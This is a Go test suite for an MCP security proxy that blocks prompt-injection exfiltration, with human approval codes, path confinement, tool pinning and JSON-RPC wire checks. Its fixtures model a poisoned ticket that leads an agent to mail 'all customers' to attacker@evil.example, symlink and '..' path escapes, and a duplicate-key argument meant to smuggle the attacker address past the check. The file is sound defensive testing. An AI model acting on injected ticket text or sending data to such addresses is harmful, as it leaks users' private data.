package proxy

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/jsonrpc"
	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/bouncer-mcp/bouncer/internal/approval"
	"github.com/bouncer-mcp/bouncer/internal/session"
	"github.com/bouncer-mcp/bouncer/internal/testsupport/procgroup"
	"github.com/bouncer-mcp/bouncer/internal/transport"
)

// The attack the product exists for: the agent reads a poisoned ticket and
// then tries to mail the attacker. The mail never reaches the server.
func TestTaintedDestinationNeverForwarded(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	cs := h.client(nil)
	text, isErr := callTool(t, cs, "get_ticket", map[string]any{"id": "4711"})
	if isErr || !strings.Contains(text, "attacker@evil.example") {
		t.Fatalf("get_ticket = %q, %v", text, isErr)
	}
	text, isErr = callTool(t, cs, "send_email", map[string]any{"to": "attacker@evil.example", "subject": "list", "body": "all customers"})
	if !isErr || !strings.HasPrefix(text, BlockedPrefix) {
		t.Fatalf("send to attacker = %q, isError %v; want blocked", text, isErr)
	}
	// Case and full-width folding do not get it through either.
	text, isErr = callTool(t, cs, "send_email", map[string]any{"to": "ATTACKER@evil.example", "subject": "list"})
	if !isErr || !strings.HasPrefix(text, BlockedPrefix) {
		t.Fatalf("upper-case send = %q, %v; want blocked", text, isErr)
	}
	if m := h.mails(); m != nil {
		t.Fatalf("a refused mail reached the server: %v", m)
	}
	// A vouched recipient still goes through, and reaches the server.
	if text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "boss@corp.example", "subject": "hi"}); isErr {
		t.Fatalf("trusted send refused: %s", text)
	}
	if m := h.mails(); len(m) != 1 || !strings.Contains(m[0], "boss@corp.example") {
		t.Fatalf("mails = %v", m)
	}
	got := verdicts(h.auditLines())
	want := "get_ticket:allow/default send_email:deny/sink send_email:deny/sink send_email:allow/sink"
	if got != want {
		t.Fatalf("audit = %s\nwant    %s", got, want)
	}
}

// Not only tool results are untrusted: an address that reached the client
// in a resource, a prompt or a JSON-RPC error is denied as a destination.
func TestEverythingUpstreamSaysIsRecorded(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	cs := h.client(nil)
	ctx := context.Background()
	if _, err := cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "ticket://4711"}); err != nil {
		t.Fatal(err)
	}
	if _, err := cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: "reply"}); err != nil {
		t.Fatal(err)
	}
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "fail", Arguments: map[string]any{}}); err == nil {
		t.Fatal("fail tool did not fail")
	}
	for _, dest := range []string{"resource-attacker@evil.example", "prompt-attacker@evil.example", "error-attacker@evil.example"} {
		text, isErr := callTool(t, cs, "send_email", map[string]any{"to": dest})
		if !isErr || codeRe.MatchString(text) {
			t.Errorf("send to %s = %q, %v; want denied outright (no code)", dest, text, isErr)
		}
	}
	if h.mails() != nil {
		t.Fatal("mail reached the server")
	}
	es := h.auditLines()
	for _, e := range es {
		if e.Tool == "send_email" && (e.Verdict != "deny" || e.Rule != "sink") {
			t.Errorf("send_email: %s/%s, want deny/sink", e.Verdict, e.Rule)
		}
	}
}

// Paths outside the allowed prefix are refused and nothing is written;
// a symlink inside the prefix that points outside is refused too.
func TestPathConfinement(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	cs := h.client(nil)
	out := filepath.Join(h.dir, "out")
	outside := filepath.Join(h.dir, "secret")
	if err := os.Symlink(h.dir, filepath.Join(out, "escape")); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		path    string
		allowed bool
	}{
		{filepath.Join(out, "ok.txt"), true},
		{outside, false},
		{filepath.Join(out, "..", "secret"), false},
		{filepath.Join(out, "escape", "secret"), false},
		{h.dir + "/outx", false},
	}
	for _, c := range cases {
		text, isErr := callTool(t, cs, "write_file", map[string]any{"path": c.path, "content": "x"})
		if isErr == c.allowed {
			t.Errorf("write_file %s: isError=%v (%s), want allowed=%v", c.path, isErr, text, c.allowed)
		}
	}
	if _, err := os.Stat(outside); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("a refused write reached the disk: %v", err)
	}
	if _, err := os.Stat(filepath.Join(out, "ok.txt")); err != nil {
		t.Fatalf("allowed write missing: %v", err)
	}
}

// A client with elicitation is asked; a yes lets the call through and lasts
// the session; the audit log has ask then allow/approval.
func TestElicitationApproves(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	asked := make(chan string, 4)
	cs := h.client(&mcp.ClientOptions{
		ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			asked <- req.Params.Message
			return &mcp.ElicitResult{Action: "accept", Content: map[string]any{}}, nil
		},
	})
	if text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example", "subject": "hi"}); isErr {
		t.Fatalf("approved send refused: %s", text)
	}
	msg := <-asked
	for _, want := range []string{"send_email", "helpdesk", "to=", "new@partner.example"} {
		if !strings.Contains(msg, want) {
			t.Errorf("question %q does not name %q", msg, want)
		}
	}
	// The yes lasts the session: no second question.
	if text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example", "subject": "again"}); isErr {
		t.Fatalf("second send refused: %s", text)
	}
	select {
	case m := <-asked:
		t.Fatalf("asked again: %s", m)
	default:
	}
	if n := len(h.mails()); n != 2 {
		t.Fatalf("%d mails, want 2", n)
	}
	lines := h.auditLines()
	got := verdicts(lines)
	if !strings.HasPrefix(got, "send_email:ask/sink send_email:allow/approval send_email:allow/") {
		t.Fatalf("audit = %s", got)
	}
	// The line that allows it names the destination and what vouched for
	// it, so bouncer log and report show who got the mail.
	if ds := lines[1].Dests; len(ds) != 1 || ds[0].Param != "to" || ds[0].Value != "new@partner.example" || ds[0].Vouch != "approval" {
		t.Fatalf("approved line's dests = %+v, want to=new@partner.example vouched by approval", ds)
	}
}

// The question is two short sentences (what is asked, what a yes does),
// then the details a line each: the destination, why it is asked, and
// where the session's output named its domain.
func TestElicitationQuestion(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	asked := make(chan string, 1)
	cs := h.client(&mcp.ClientOptions{
		ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			asked <- req.Params.Message
			return &mcp.ElicitResult{Action: "decline"}, nil
		},
	})
	callTool(t, cs, "echo", map[string]any{"text": "the partners are at partner.example"})
	callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example", "subject": "hi"})
	msg := <-asked
	head, details, ok := strings.Cut(msg, "\n\n")
	if !ok {
		t.Fatalf("no details below the question:\n%s", msg)
	}
	want := "Allow send_email on server helpdesk to send to new@partner.example? A yes lasts this session, but not once any server's output holds it."
	if head != want {
		t.Errorf("question = %q\nwant       %q", head, want)
	}
	lines := strings.Split(details, "\n")
	if len(lines) < 3 || lines[0] != "to: new@partner.example" || !strings.HasPrefix(lines[1], "Why asked: destination to=") ||
		lines[2] != "Note: the domain partner.example appeared in the output of server helpdesk: new@partner.example may come from there, spelled another way." {
		t.Errorf("details:\n%s", details)
	}
}

// The question says what a yes does: it lasts the session but not once
// output holds the destination. Ticking "remember" vouches for the
// destination on this server from then on, even when output holds it; a
// plain yes does not.
func TestElicitationRemember(t *testing.T) {
	for _, remember := range []bool{false, true} {
		h := newHarness(t, hopts{policy: helpdeskPolicy, session: true})
		var schema any
		cs := h.client(&mcp.ClientOptions{
			ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
				schema = req.Params.RequestedSchema
				if !strings.Contains(req.Params.Message, "not once any server's output holds it") {
					t.Errorf("the question does not say what a yes does: %q", req.Params.Message)
				}
				return &mcp.ElicitResult{Action: "accept", Content: map[string]any{"remember": remember}}, nil
			},
		})
		if text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "carol@partner.example", "subject": "hi"}); isErr {
			t.Fatalf("approved send refused: %s", text)
		}
		if b, _ := json.Marshal(schema); !strings.Contains(string(b), `"remember"`) {
			t.Fatalf("no remember choice offered: %s", b)
		}
		// The server's output now holds the address.
		callTool(t, cs, "echo", map[string]any{"text": "write to carol@partner.example"})
		text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "carol@partner.example", "subject": "again"})
		if remember && isErr {
			t.Fatalf("remembered destination refused after output held it: %s", text)
		}
		if !remember && (!isErr || !strings.Contains(text, "untrusted")) {
			t.Fatalf("a plain yes outlived taint: %q", text)
		}
		entries, _ := session.OpenRemembered(h.home).List()
		if remember != (len(entries) == 1 && entries[0].Destination == "carol@partner.example" && entries[0].Server == "helpdesk") {
			t.Fatalf("remember=%v, remembered: %+v", remember, entries)
		}
	}
}

func TestElicitationDeclined(t *testing.T) {
	for _, action := range []string{"decline", "cancel"} {
		t.Run(action, func(t *testing.T) {
			h := newHarness(t, hopts{policy: helpdeskPolicy})
			cs := h.client(&mcp.ClientOptions{
				ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
					return &mcp.ElicitResult{Action: action}, nil
				},
			})
			text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example"})
			if !isErr || !strings.HasPrefix(text, BlockedPrefix) {
				t.Fatalf("declined send = %q, %v", text, isErr)
			}
			if h.mails() != nil {
				t.Fatal("a declined mail reached the server")
			}
			if got := verdicts(h.auditLines()); got != "send_email:ask/sink send_email:deny/approval" {
				t.Fatalf("audit = %s", got)
			}
		})
	}
}

// An unanswered question times out into a deny, and while one call waits
// for a human, other calls carry on.
func TestElicitationTimeoutDoesNotStall(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy, elicitTimeout: 2 * time.Second})
	withdrawn := make(chan struct{})
	cs := h.client(&mcp.ClientOptions{
		ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			<-ctx.Done() // the proxy withdraws the question
			close(withdrawn)
			return nil, ctx.Err()
		},
	})
	done := make(chan string, 1)
	go func() {
		text, _ := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example"})
		done <- text
	}()
	time.Sleep(200 * time.Millisecond)
	if text, isErr := callTool(t, cs, "echo", map[string]any{"text": "still here"}); isErr || text != "still here" {
		t.Fatalf("echo while a human is asked = %q, %v", text, isErr)
	}
	select {
	case <-done:
		t.Fatal("the held call was answered before the timeout")
	default:
	}
	text := <-done
	if !strings.HasPrefix(text, BlockedPrefix) || !strings.Contains(text, "did not answer") {
		t.Fatalf("timed-out call = %q", text)
	}
	select {
	case <-withdrawn:
	case <-time.After(5 * time.Second):
		t.Fatal("the question was not withdrawn from the client")
	}
	if h.mails() != nil {
		t.Fatal("an unanswered mail reached the server")
	}
}

// A client that cancels a call the proxy holds for a human: the question is
// withdrawn, nothing is forwarded, and the log says so.
func TestCancelHeldCall(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	asked := make(chan struct{})
	withdrawn := make(chan struct{})
	cs := h.client(&mcp.ClientOptions{
		ElicitationHandler: func(ctx context.Context, req *mcp.ElicitRequest) (*mcp.ElicitResult, error) {
			close(asked)
			<-ctx.Done()
			close(withdrawn)
			return nil, ctx.Err()
		},
	})
	ctx, cancel := context.WithCancel(context.Background())
	errc := make(chan error, 1)
	go func() {
		_, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "send_email", Arguments: map[string]any{"to": "new@partner.example"}})
		errc <- err
	}()
	<-asked
	cancel()
	if err := <-errc; err == nil {
		t.Fatal("cancelled call returned no error")
	}
	select {
	case <-withdrawn:
	case <-time.After(5 * time.Second):
		t.Fatal("the question was not withdrawn")
	}
	// The session still works, and the cancelled mail never went out.
	if text, isErr := callTool(t, cs, "echo", map[string]any{"text": "ok"}); isErr || text != "ok" {
		t.Fatalf("echo after cancel = %q", text)
	}
	if h.mails() != nil {
		t.Fatal("a cancelled mail reached the server")
	}
	deadline := time.Now().Add(5 * time.Second)
	for !strings.Contains(verdicts(h.auditLines()), "send_email:deny/approval") && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	// The withdrawn question's deny line may land before or after the
	// echo's: the client does not wait for it.
	if got := verdicts(h.auditLines()); !strings.HasPrefix(got, "send_email:ask/sink") ||
		!strings.Contains(got, "send_email:deny/approval") || strings.Contains(got, "send_email:allow") {
		t.Fatalf("audit = %s", got)
	}
}

var codeRe = regexp.MustCompile(`bouncer approve ([A-Z0-9]{3}-[A-Z0-9]{3})`)

// Without elicitation the call is denied with a one-time code; after the
// human approves it, the retry passes once.
func TestApprovalCode(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	cs := h.client(nil)
	args := map[string]any{"to": "new@partner.example", "subject": "hi"}
	text, isErr := callTool(t, cs, "send_email", args)
	m := codeRe.FindStringSubmatch(text)
	if !isErr || !strings.HasPrefix(text, BlockedPrefix) || m == nil {
		t.Fatalf("first send = %q, %v; want blocked with a code", text, isErr)
	}
	if !strings.Contains(text, "own terminal") || !strings.Contains(text, "five minutes") {
		t.Errorf("instructions missing: %q", text)
	}
	// Retrying before approval does not help.
	if text, isErr := callTool(t, cs, "send_email", args); !isErr {
		t.Fatalf("unapproved retry allowed: %s", text)
	}
	store := approval.Open(filepath.Join(h.home, "pending.json"), nil)
	if err := store.Approve(m[1]); err != nil {
		t.Fatal(err)
	}
	if text, isErr := callTool(t, cs, "send_email", args); isErr {
		t.Fatalf("approved retry refused: %s", text)
	}
	if n := len(h.mails()); n != 1 {
		t.Fatalf("%d mails, want 1", n)
	}
	// The code was single use.
	if text, isErr := callTool(t, cs, "send_email", args); !isErr {
		t.Fatalf("second retry allowed on a used code: %s", text)
	}
	es := h.auditLines()
	got := verdicts(es)
	want := "send_email:ask/sink send_email:deny/approval send_email:ask/sink send_email:deny/approval send_email:ask/sink send_email:allow/approval send_email:ask/sink send_email:deny/approval"
	if got != want {
		t.Fatalf("audit = %s\nwant    %s", got, want)
	}
	if es[1].Code != m[1] || es[5].Code != m[1] {
		t.Errorf("audit codes = %q, %q; want %q", es[1].Code, es[5].Code, m[1])
	}
	// The agent's text lays the command out on its own line; the audit
	// line says the same on one line, which log and report show as text.
	wantReason := `waiting for: bouncer approve ` + m[1] + ` (to="new@partner.example")`
	if r := es[1].Reason; strings.Contains(r, "\n") || !strings.HasSuffix(r, wantReason) {
		t.Errorf("audit reason of the code line = %q, want one line ending %q", r, wantReason)
	}
	if ds := es[5].Dests; len(ds) != 1 || ds[0].Value != "new@partner.example" || ds[0].Vouch != "approval" {
		t.Errorf("approved line's dests = %+v, want new@partner.example vouched by approval", ds)
	}
}

// A code the human approved for the session lets the retry through and
// approves the same server, tool, argument and destination for the rest
// of the session, as a yes through the client does: no second code. It is
// no wider: another destination needs its own, and output that holds the
// destination wins over it. The code carries where the session's output
// named the destination's domain, for the human to see.
func TestApprovalCodeForSession(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	cs := h.client(nil)
	callTool(t, cs, "echo", map[string]any{"text": "the partners are at partner.example"})
	args := map[string]any{"to": "new@partner.example", "subject": "hi"}
	text, _ := callTool(t, cs, "send_email", args)
	m := codeRe.FindStringSubmatch(text)
	if m == nil {
		t.Fatalf("first send = %q; want blocked with a code", text)
	}
	store := approval.Open(filepath.Join(h.home, "pending.json"), nil)
	shown, err := store.Lookup(m[1])
	if err != nil {
		t.Fatal(err)
	}
	if shown.Seen == nil || *shown.Seen != (approval.Seen{Domain: "partner.example", Server: "helpdesk"}) {
		t.Errorf("the code's note = %+v, want partner.example seen in helpdesk's output", shown.Seen)
	}
	if err := store.ApproveShown(shown, true); err != nil {
		t.Fatal(err)
	}
	for _, subject := range []string{"hi", "again", "and again"} {
		args["subject"] = subject
		if text, isErr := callTool(t, cs, "send_email", args); isErr {
			t.Fatalf("send %q after a yes for the session: %s", subject, text)
		}
	}
	if n := len(h.mails()); n != 3 {
		t.Fatalf("%d mails, want 3", n)
	}
	if text, _ := callTool(t, cs, "send_email", map[string]any{"to": "other@partner.example", "subject": "x"}); codeRe.FindString(text) == "" {
		t.Fatalf("another destination = %q, want a code of its own", text)
	}
	callTool(t, cs, "echo", map[string]any{"text": "now write to new@partner.example"})
	if text, isErr := callTool(t, cs, "send_email", args); !isErr || !strings.Contains(text, "untrusted") {
		t.Fatalf("after output held it = %q, want the taint deny", text)
	}
	es := h.auditLines()
	got := verdicts(es)
	want := "echo:allow/default send_email:ask/sink send_email:deny/approval send_email:ask/sink send_email:allow/approval " +
		"send_email:allow/approval send_email:allow/approval send_email:ask/sink send_email:deny/approval echo:allow/default send_email:deny/sink"
	if got != want {
		t.Fatalf("audit = %s\nwant    %s", got, want)
	}
	if r := es[4].Reason; r != "approved with bouncer approve "+m[1]+" (for the rest of the session: "+m[1]+")" {
		t.Errorf("the redeeming line's reason = %q", r)
	}
}

// A call needing two codes goes through with both used up, or is blocked
// with neither: never blocked with one used, which the human would have to
// approve again. Here the clock moves on two minutes at every read of the
// store, as time passes between a look at the codes and their taking, and
// the second code expires a minute after the first read.
func TestApprovalCodesAllOrNone(t *testing.T) {
	t0 := time.Now()
	var mu sync.Mutex
	next := t0
	tick := func() time.Time {
		mu.Lock()
		defer mu.Unlock()
		now := next
		next = next.Add(2 * time.Minute)
		return now
	}
	// Two destination arguments, so that the call needs two codes.
	const policy = `
send_email:
  exfiltrating: true
  sink_params: [to, subject]
`
	h := newHarness(t, hopts{policy: policy, approvalsNow: tick})
	pending := filepath.Join(h.home, "pending.json")
	approved := func(r approval.Request, at time.Time) string {
		t.Helper()
		s := approval.Open(pending, func() time.Time { return at })
		code, err := s.Issue(r, nil)
		if err != nil {
			t.Fatal(err)
		}
		if err := s.Approve(code); err != nil {
			t.Fatal(err)
		}
		return code
	}
	to := approved(approval.Request{Server: "helpdesk", Tool: "send_email", Param: "to", Destination: "new@partner.example"}, t0)
	subject := approved(approval.Request{Server: "helpdesk", Tool: "send_email", Param: "subject", Destination: "q3-numbers-7731"}, t0.Add(1*time.Minute-approval.TTL))

	cs := h.client(nil)
	text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example", "subject": "q3-numbers-7731"})
	used := map[string]bool{}
	for _, code := range []string{to, subject} {
		_, err := approval.Open(pending, nil).Lookup(code)
		used[code] = errors.Is(err, approval.ErrUsed)
	}
	if isErr && (used[to] || used[subject]) {
		t.Fatalf("the call was blocked with its codes used up (%s: %v, %s: %v): %s", to, used[to], subject, used[subject], text)
	}
	// Both codes were open and approved when the store was first read.
	if isErr {
		t.Fatalf("the call with both its codes approved was blocked: %s", text)
	}
	if !used[to] || !used[subject] {
		t.Errorf("the call went through, but not on both codes: %s used %v, %s used %v", to, used[to], subject, used[subject])
	}
	if n := len(h.mails()); n != 1 {
		t.Fatalf("%d mails, want 1", n)
	}
	es := h.auditLines()
	if got, want := verdicts(es), "send_email:ask/sink send_email:allow/approval"; got != want {
		t.Fatalf("audit = %s\nwant    %s", got, want)
	}
	if want := to + "," + subject; es[1].Code != want {
		t.Errorf("the allowing line's codes = %q, want %q", es[1].Code, want)
	}
}

// A corrupt pending.json approves nothing and says why.
func TestPendingCorrupt(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	if err := os.WriteFile(filepath.Join(h.home, "pending.json"), []byte("{not json"), 0o600); err != nil {
		t.Fatal(err)
	}
	cs := h.client(nil)
	text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "new@partner.example"})
	if !isErr || !strings.HasPrefix(text, BlockedPrefix) || codeRe.MatchString(text) {
		t.Fatalf("send with corrupt pending.json = %q, %v", text, isErr)
	}
	if !strings.Contains(text, "pending.json") && !strings.Contains(text, "approval store") {
		t.Errorf("reason does not say what is wrong: %q", text)
	}
	if h.mails() != nil {
		t.Fatal("mail reached the server")
	}
}

// When the audit log can't be written, calls are denied and not forwarded.
func TestAuditUnwritableDenies(t *testing.T) {
	breaks := map[string]func(home string) error{
		"replaced by a directory": func(home string) error {
			path := filepath.Join(home, "audit.jsonl")
			if err := os.Rename(path, path+".old"); err != nil {
				return err
			}
			return os.Mkdir(path, 0o700)
		},
		"state directory removed": func(home string) error { return os.RemoveAll(home) },
	}
	for name, breakIt := range breaks {
		t.Run(name, func(t *testing.T) {
			h := newHarness(t, hopts{policy: helpdeskPolicy})
			cs := h.client(nil)
			if _, isErr := callTool(t, cs, "send_email", map[string]any{"to": "boss@corp.example"}); isErr {
				t.Fatal("first send refused")
			}
			if err := breakIt(h.home); err != nil {
				t.Fatal(err)
			}
			text, isErr := callTool(t, cs, "send_email", map[string]any{"to": "boss@corp.example"})
			if !isErr || !strings.HasPrefix(text, BlockedPrefix) || !strings.Contains(text, "audit") {
				t.Fatalf("send with a broken audit log = %q, %v", text, isErr)
			}
			if n := len(h.mails()); n != 1 {
				t.Fatalf("%d mails, want 1: a call was forwarded without its audit line", n)
			}
		})
	}
}

// An upstream that crashes in the middle of a call: the call gets a
// JSON-RPC error and Run reports the upstream's exit.
func TestUpstreamCrashMidCall(t *testing.T) {
	h := newHarness(t, hopts{})
	cs := h.client(nil)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "crash", Arguments: map[string]any{}})
	if err == nil || ctx.Err() != nil {
		t.Fatalf("crash call: err=%v ctx=%v; want a JSON-RPC error before the deadline", err, ctx.Err())
	}
	if err := h.waitExit(); !errors.Is(err, ErrUpstreamExited) {
		t.Fatalf("Run = %v, want ErrUpstreamExited", err)
	}
	<-h.proc.Done()
	if e := h.proc.ExitError(); e == nil || !strings.Contains(e.Error(), "exit status 3") {
		t.Fatalf("upstream exit = %v", e)
	}
}

// An upstream that writes something that is not JSON ends the session.
func TestUpstreamGarbage(t *testing.T) {
	cmd := selfServer(t, "raw-garbage", "")
	h := newHarness(t, hopts{cmd: &cmd})
	r := h.raw()
	r.handshake()
	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{}}}`)
	resp := r.response(1)
	if resp.Error == nil {
		t.Fatalf("want an error for the call the garbage answered, got %s", resp.Result)
	}
	if err := h.waitExit(); !errors.Is(err, transport.ErrUpstreamOutput) {
		t.Fatalf("Run = %v", err)
	}
}

// Messages over the go-sdk's default 16 MiB frame pass.
func TestHugeResult(t *testing.T) {
	cmd := selfServer(t, "raw-huge", "")
	h := newHarness(t, hopts{cmd: &cmd})
	r := h.raw()
	r.timeout = 3 * time.Minute // recording 20 MiB as taint is slow under -race
	r.handshake()
	r.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"echo","arguments":{}}}`)
	text, isErr := resultText(t, r.response(1))
	if isErr || len(text) != 20<<20 {
		t.Fatalf("huge result: %d bytes, isError %v", len(text), isErr)
	}
}

// Pinning follows every page; a server whose list can't be had pins
// nothing and every call is denied.
func TestPinning(t *testing.T) {
	cases := []struct {
		server  string
		tool    string
		allowed bool
	}{
		{"raw-pages", "page3", true},
		{"raw-pages", "page", true},
		{"raw-pages", "nope", false},
		{"raw-loop", "t", false},
		{"raw-nolist", "echo", false},
	}
	for _, c := range cases {
		t.Run(c.server+"/"+c.tool, func(t *testing.T) {
			cmd := selfServer(t, c.server, "")
			h := newHarness(t, hopts{cmd: &cmd})
			r := h.raw()
			r.handshake()
			// Sent right after initialized: the call waits for the pin.
			r.send(fmt.Sprintf(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":%q,"arguments":{}}}`, c.tool))
			text, isErr := resultText(t, r.response(1))
			if isErr == c.allowed {
				t.Fatalf("%s: %q isError=%v, want allowed=%v", c.tool, text, isErr, c.allowed)
			}
			if !c.allowed {
				es := h.auditLines()
				if len(es) != 1 || es[0].Rule != "pinning" {
					t.Fatalf("audit = %s", verdicts(es))
				}
			}
		})
	}
}

// A tool added after startup is refused; a tool whose definition changed is
// refused with a reason saying so.
func TestListChanged(t *testing.T) {
	h := newHarness(t, hopts{})
	changed := make(chan struct{}, 8)
	cs := h.client(&mcp.ClientOptions{
		ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) { changed <- struct{}{} },
	})
	if _, isErr := callTool(t, cs, "add_tool", map[string]any{}); isErr {
		t.Fatal("add_tool refused")
	}
	<-changed // relayed to the client
	tools, err := cs.ListTools(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, tl := range tools.Tools {
		found = found || tl.Name == "late"
	}
	if !found {
		t.Fatal("the new tool is not visible to the client (the proxy passes lists through)")
	}
	if text, isErr := callTool(t, cs, "late", map[string]any{"text": "x"}); !isErr || !strings.HasPrefix(text, BlockedPrefix) {
		t.Fatalf("late tool = %q, %v; want refused", text, isErr)
	}
	if text, isErr := callTool(t, cs, "echo", map[string]any{"text": "x"}); isErr {
		t.Fatalf("echo before change refused: %s", text)
	}
	if _, isErr := callTool(t, cs, "change_echo", map[string]any{}); isErr {
		t.Fatal("change_echo refused")
	}
	<-changed
	// The proxy re-lists on its own; give it a moment, without the client
	// listing, so the proxy's own re-list is what is tested.
	deadline := time.Now().Add(5 * time.Second)
	for {
		text, isErr := callTool(t, cs, "echo", map[string]any{"text": "x"})
		if isErr {
			if !strings.Contains(text, "echo") {
				t.Errorf("reason does not name the tool: %q", text)
			}
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("changed tool still allowed")
		}
		time.Sleep(50 * time.Millisecond)
	}
	for _, e := range h.auditLines() {
		if e.Tool == "late" && e.Rule != "pinning" {
			t.Errorf("late: rule %s, want pinning", e.Rule)
		}
	}
}

// The wire rules at the edge: server/discover gets -32601, initialize is
// clamped, reserved IDs are refused, a notification-shaped tools/call and
// ambiguous JSON are never forwarded.
func TestWireRules(t *testing.T) {
	h := newHarness(t, hopts{policy: helpdeskPolicy})
	r := h.raw()
	r.send(`{"jsonrpc":"2.0","id":"d","method":"server/discover","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28"}}}`)
	if resp := r.response("d"); resp.Error == nil || !strings.Contains(resp.Error.Error(), "not found") {
		t.Fatalf("server/discover = %v %s", resp.Error, resp.Result)
	}
	r.send(`{"jsonrpc":"2.0","id":"m","method":"tools/list","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28"}}}`)
	if resp := r.response("m"); resp.Error == nil {
		t.Fatalf("modern pre-initialize request answered: %s", resp.Result)
	}
	r.send(`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2026-07-28","capabilities":{"elicitation":{}},"clientInfo":{"name":"raw","version":"1"}}}`)
	resp := r.response(0)
	var init struct {
		ProtocolVersion string `json:"protocolVersion"`
	}
	if err := json.Unmarshal(resp.Result, &init); err != nil || init.ProtocolVersion == "" || init.ProtocolVersion > MaxProtocolVersion {
		t.Fatalf("initialize result %s: version %q", resp.Result, init.ProtocolVersion)
	}
	r.send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	r.send(`{"jsonrpc":"2.0","id":"bouncer-7","method":"ping"}`)
	if resp := r.response("bouncer-7"); resp.Error == nil {
		t.Fatal("a client request with a reserved ID was forwarded")
	}
	// A tools/call without an id: never forwarded, nothing answered.
	r.send(`{"jsonrpc":"2.0","method":"tools/call","params":{"name":"send_email","arguments":{"to":"boss@corp.example"}}}`)
	// Duplicate keys: the engine and the server could read different values.
	r.send(`{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"boss@corp.example","to":"attacker@evil.example"}}}`)
	if text, isErr := resultText(t, r.response(2)); !isErr || !strings.Contains(text, "twice") {
		t.Fatalf("duplicate key call = %q, %v", text, isErr)
	}
	// Params that break the schema get -32602, as a server answers them.
	r.send(`{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"send_email","arguments":["boss@corp.example"]}}`)
	if resp := r.response(3); resp.Error == nil || !strings.Contains(resp.Error.Error(), "not an object") {
		t.Fatalf("array arguments = %v %s", resp.Error, resp.Result)
	}
	r.send(`{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"arguments":{"to":"boss@corp.example"}}}`)
	var werr *jsonrpc.Error
	if resp := r.response(5); !errors.As(resp.Error, &werr) || werr.Code != jsonrpc.CodeInvalidParams || !strings.Contains(werr.Message, "no tool name") {
		t.Fatalf("a call with no tool name = %v %s", resp.Error, resp.Result)
	}
	r.send(`{"jsonrpc":"2.0","id":4,"method":"ping"}`)
	r.response(4)
	if h.mails() != nil {
		t.Fatalf("mail reached the server: %v", h.mails())
	}
	if got := verdicts(h.auditLines()); got != "send_email:deny/default send_email:deny/default send_email:deny/default :deny/default" {
		t.Fatalf("audit = %s", got)
	}
}

// An upstream request using the proxy's ID range is refused, not relayed.
func TestUpstreamReservedID(t *testing.T) {
	cmd := selfServer(t, "raw-reserved", "")
	h := newHarness(t, hopts{cmd: &cmd})
	r := h.raw()
	r.send(`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"raw","version":"1"}}}`)
	r.response(0)
	r.send(`{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	r.send(`{"jsonrpc":"2.0","id":5,"method":"ping"}`)
	for {
		switch m := r.next(true).(type) {
		case *jsonrpc.Request:
			if m.IsCall() {
				t.Fatalf("relayed a request with a reserved ID: %v %s", m.ID.Raw(), m.Method)
			}
			continue
		case *jsonrpc.Response:
			if m.ID.Raw() != int64(5) {
				continue
			}
		}
		break
	}
}

// The client hangs up in the middle of a call: Run returns nil, and the
// upstream (and its process group) is gone after Stop.
func TestClientDisconnectMidCall(t *testing.T) {
	h := newHarness(t, hopts{})
